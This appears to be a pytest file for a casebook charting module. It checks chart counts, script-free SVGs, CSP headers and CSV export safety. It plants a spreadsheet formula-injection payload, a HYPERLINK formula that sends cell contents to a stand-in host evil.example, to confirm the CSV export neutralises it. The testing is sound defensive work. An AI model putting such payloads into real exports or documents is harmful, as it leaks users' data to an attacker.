# SPDX-License-Identifier: AGPL-3.0-or-later
"""Charts (whistle/workstation/casebook/charts.py): the numbers are right, each chart is an SVG
image without script or other origin, its table is on the page and its CSV is safe from formula
injection; in real Chromium with JavaScript off the charts page shows the SVGs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import threading
from pathlib import Path

import casebook_corpus as corpus_mod
import pytest
from support import CASEBOOK_PORT, casebook_client, make_driver

from whistle.workstation.casebook import charts, store
from whistle.workstation.casebook.answers import load_fields
from whistle.workstation.casebook.answers import store as store_answers
from whistle.workstation.casebook.store import Casebook

BASE = f"http://127.0.0.1:{CASEBOOK_PORT}"
TODAY = dt.date(2026, 6, 20)
HOSTILE_PLACE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def book_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, list[str], corpus_mod.Corpus]:
    monkeypatch.setattr(store, "today", lambda: TODAY)
    corpus = corpus_mod.generate(4, 400, campaigns=2, spam=1, start=dt.date(2024, 9, 1), days=650)
    root = tmp_path / "cb"
    with Casebook.open(root) as book:
        ids = corpus_mod.fill(book, corpus)
        for cid in ids[:60]:  # enough to be one of the places drawn
            book.db.execute("DELETE FROM answers WHERE case_id = ? AND field = 'province'", (cid,))
            store_answers(book.db, cid, {"province": HOSTILE_PLACE})
    return root, ids, corpus


def _labels() -> dict[str, object]:
    return {"title_category_month": "by category", "title_place_month": "by place",
            "title_channel_month": "by channel", "title_channel_week": "w", "title_ack": "ack",
            "title_feedback": "fb", "title_open": "open", "note_ack": "", "note_feedback": "",
            "note_open": "", "waiting": "waiting", "waiting_late": "late", "cases": "cases"}


def test_casebook_charts_numbers(book_root: tuple[Path, list[str], corpus_mod.Corpus]) -> None:
    root, _ids, corpus = book_root
    fields = load_fields(None)
    with Casebook.open(root) as book:
        by_category = charts.build(book, fields, "reports-category", "month", TODAY, _labels())
        assert len(by_category.columns) == charts.MONTHS_SHOWN and by_category.columns[-1] == "2026-06"
        since = by_category.columns[0]
        expected = sum(1 for r in corpus.reports if r.received_on[:7] >= since)
        assert by_category.total == expected
        medication = dict(by_category.rows)["medication"]
        assert medication[-2] == sum(1 for r in corpus.reports
                                     if r.category == "medication" and r.received_on[:7] == "2026-05")
        weekly = charts.build(book, fields, "reports-channel", "week", TODAY, _labels())
        assert len(weekly.columns) == charts.WEEKS_SHOWN and weekly.columns[-1] == "2026-06-15"
        first_week = dt.date.fromisoformat(weekly.columns[0])
        assert weekly.total == sum(1 for r in corpus.reports
                                   if dt.date.fromisoformat(r.received_on) >= first_week)
        places = charts.build(book, fields, "reports-place", "month", TODAY, _labels())
        assert len(places.rows) <= charts.TOP_PLACES + 1
        ack = charts.build(book, fields, "ack", "month", TODAY, _labels())
        truth = book.db.execute("SELECT count(*) FROM cases WHERE received_on >= ?",
                                ((TODAY - dt.timedelta(days=365)).isoformat(),)).fetchone()[0]
        assert ack.total == truth
        on_time = book.db.execute(
            "SELECT count(*) FROM cases WHERE received_on >= ? AND ack_on IS NOT NULL AND "
            "julianday(ack_on) - julianday(received_on) <= 7",
            ((TODAY - dt.timedelta(days=365)).isoformat(),)).fetchone()[0]
        assert sum(dict(ack.rows)["cases"][:3]) == on_time
        opened = charts.build(book, fields, "open", "month", TODAY, _labels())
        assert opened.total == book.db.execute(
            "SELECT count(*) FROM cases WHERE status != 'closed'").fetchone()[0]


def test_casebook_charts_csv_neutralises_formulas() -> None:
    chart = charts.Chart("x", "t", ["=1+1", "b"], [(HOSTILE_PLACE, [1, 2]), ("-2", [3, 4]),
                                                   ("@SUM(A1)", [0, 0]), ("+x", [1, 1]), ("ok", [5, 6])])
    rows = list(csv.reader(io.StringIO(charts.to_csv(chart))))
    assert rows[0] == ["", "'=1+1", "b"]
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE_PLACE, "'-2", "'@SUM(A1)", "'+x", "ok"]
    assert rows[5][1:] == ["5", "6"]


def test_casebook_charts_pages_svg_and_csv(book_root: tuple[Path, list[str], corpus_mod.Corpus]) -> None:
    root, _ids, _corpus = book_root
    client, _ = casebook_client(root)
    assert client.application.extensions["casebook_precompute"].wait(60)
    page = client.get("/charts?lang=en", base_url=BASE)
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "<script" not in html and "style=" not in html
    for chart_id in charts.CHART_IDS:
        assert f'src="/charts/{chart_id}.svg?period=month"' in html
        answer = client.get(f"/charts/{chart_id}.svg", base_url=BASE)
        assert answer.status_code == 200 and answer.mimetype == "image/svg+xml"
        svg = answer.get_data(as_text=True)
        assert svg.startswith("<svg") and "<script" not in svg.lower() and "<!--" not in svg
        assert not re.search(r"(href|src)\s*=\s*[\"'](https?:)?//", svg)
        assert "@import" not in svg and "url(" not in svg.replace("url(#", "")
        assert answer.headers["Content-Security-Policy"] == "default-src 'none'; style-src 'unsafe-inline'"
        data = client.get(f"/charts/{chart_id}.csv", base_url=BASE)
        assert data.mimetype == "text/csv" and data.headers["Content-Disposition"].startswith("attachment")
    # The hostile place: text in the SVG, neutralised in the CSV, escaped in the table.
    place_csv = client.get("/charts/reports-place.csv", base_url=BASE).get_data(as_text=True)
    assert "'=HYPERLINK" in place_csv and "\n=HYPERLINK" not in place_csv and ',=HYPERLINK' not in place_csv
    svg = client.get("/charts/reports-place.svg", base_url=BASE).get_data(as_text=True)
    assert "&amp;A1" in svg or "HYPERLINK" not in svg
    assert client.get("/charts/nope.svg", base_url=BASE).status_code == 404
    week = client.get("/charts?period=week", base_url=BASE).get_data(as_text=True)
    assert "period=week" in week and "2026-06-15" in week


@pytest.mark.browser
@pytest.mark.slow
def test_casebook_charts_in_chromium(book_root: tuple[Path, list[str], corpus_mod.Corpus],
                                     tmp_path: Path) -> None:
    """Real Chromium, JavaScript off: the charts page shows each SVG (decoded, drawn), with its
    table, under the casebook's CSP."""
    from werkzeug.serving import make_server

    from whistle.workstation.casebook.web import ServeState, create_app

    root = book_root[0]
    state = ServeState(root=root, host="127.0.0.1", port=0, token="one-time-token",
                       signing_key=None, run_id="run")
    app = create_app(state)
    assert app.extensions["casebook_precompute"].wait(60)
    server = make_server("127.0.0.1", 0, app, threaded=True)
    state.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    driver = make_driver(tmp_path / "browser", user_agent="Mozilla/5.0 whistle-casebook",
                         javascript=False)
    try:
        from selenium.webdriver.common.by import By

        driver.get(state.login_url())
        driver.get(state.origin + "/charts?lang=en")
        assert "Charts" in driver.title
        images = driver.find_elements(By.CSS_SELECTOR, "img.chart")
        assert len(images) == len(charts.CHART_IDS)
        for k, image in enumerate(images):
            # Read through the DevTools protocol: the page itself runs no script.
            loaded = driver.execute_cdp_cmd("Runtime.evaluate", {
                "expression": f"(() => {{ const i = document.querySelectorAll('img.chart')[{k}]; "
                              "return i.complete && i.naturalWidth > 0; })()", "returnByValue": True})
            assert loaded["result"].get("value") is True, (loaded, image.get_attribute("src"))
            assert image.size["width"] > 300 and image.size["height"] > 100
        # JavaScript is off for the page itself.
        tables = driver.find_elements(By.CSS_SELECTOR, "table.numbers")
        assert len(tables) == len(charts.CHART_IDS)
        scripts = driver.execute_cdp_cmd("Runtime.evaluate", {
            "expression": "document.scripts.length", "returnByValue": True})
        assert scripts["result"]["value"] == 0
        png = images[0].screenshot_as_png
        assert len(png) > 5000  # a drawn chart, not an empty box
        # The SVG opened on its own is an image document: no script ran, nothing else loaded.
        driver.get(state.origin + "/charts/reports-category.svg")
        assert "svg" in driver.page_source[:200].lower()
    finally:
        driver.quit()
        server.shutdown()
        thread.join(5)
